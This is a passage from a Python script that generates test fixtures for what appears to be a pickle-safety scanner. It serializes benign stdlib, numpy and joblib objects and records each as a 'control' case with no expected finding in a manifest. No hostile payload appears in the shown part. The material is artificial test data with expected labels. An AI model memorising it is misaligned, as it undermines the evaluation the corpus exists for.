        "c": complex(1, 2), "d": decimal.Decimal("1.5"), "f": fractions.Fraction(1, 3),
        "id": uuid.UUID(int=1), "pat": re.compile("a+"), "dd": collections.defaultdict(list),
        "sl": slice(1, 2), "rng": range(3)}
for proto_ in (0, 2, 4, 5):
    case("b11_checkpoint_p%d.pkl" % proto_, pickle.dumps(ckpt, protocol=proto_),
         "benign checkpoint of stdlib values (protocol %d)" % proto_, "control", "none", "-")
try:
    import numpy as np
    state = {"rng": np.random.RandomState(0), "w": np.ones((4, 4), dtype=np.float16),
             "ints": np.arange(5, dtype=np.int64), "rec": np.zeros(2, dtype=[("a", "<i4"), ("b", "<f8")]),
             "obj": np.array(["x", None], dtype=object), "m": np.ma.masked_array([1, 2], mask=[0, 1])}
    case("b12_numpy_state.pkl", pickle.dumps(state, protocol=4),
         "benign numpy RNG, float16, record, masked and object arrays", "control", "none", "-")
    try:
        import joblib
        jp = os.path.join(OUT, "b13_numpy.joblib")
        joblib.dump({"w": np.ones((64, 64)), "names": ["a", "b"]}, jp)
        MANIFEST.append(("b13_numpy.joblib", "benign joblib.dump of numpy arrays", "control", "none", "-"))
        jz = os.path.join(OUT, "b14_numpy_z.joblib")
        joblib.dump({"w": np.ones((64, 64))}, jz, compress=3)
        MANIFEST.append(("b14_numpy_z.joblib", "benign compressed joblib", "control", "none", "-"))
        bio = io.BytesIO()
        np.savez_compressed(bio, a=np.ones(3), b=np.arange(4))
        case("b15_arrays.npz", bio.getvalue(), "benign compressed .npz", "control", "none", "-")
    except ImportError:
        pass
except ImportError:
    pass

# Stdlib value types whose pickles use getattr / class helpers (CPython 3.11+: Enum members are
# builtins.getattr(EnumClass, 'NAME'); zoneinfo uses ZoneInfo._unpickle).
import array as array_mod
import ipaddress
import types as types_mod
import zoneinfo
vals = {"flag": re.IGNORECASE, "tz": zoneinfo.ZoneInfo("UTC"), "ip": ipaddress.ip_address("10.0.0.1"),
        "net": ipaddress.ip_network("10.0.0.0/8"), "arr": array_mod.array("f", [1.0, 2.0]),
        "ns": types_mod.SimpleNamespace(lr=0.1)}
for proto_ in (2, 4):
    case("b24_stdlib_values_p%d.pkl" % proto_, pickle.dumps(vals, protocol=proto_),
         "benign enum member, zoneinfo, ipaddress, array and SimpleNamespace (protocol %d)" % proto_, "control",
         "none", "-")
try:
    import numpy as np
    case("b25_numpy_subclasses.pkl", pickle.dumps({"m": np.matrix([[1, 2]]), "r": np.rec.array(
        [(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")])}, protocol=4),
         "benign numpy matrix and record array (numpy.matrix / numpy.recarray / numpy.record)", "control", "none",
         "-")
except ImportError:
    pass

with open(os.path.join(OUT, "manifest.tsv"), "w") as f:
    for row in MANIFEST:
        f.write("\t".join(row) + "\n")
print(len(MANIFEST))
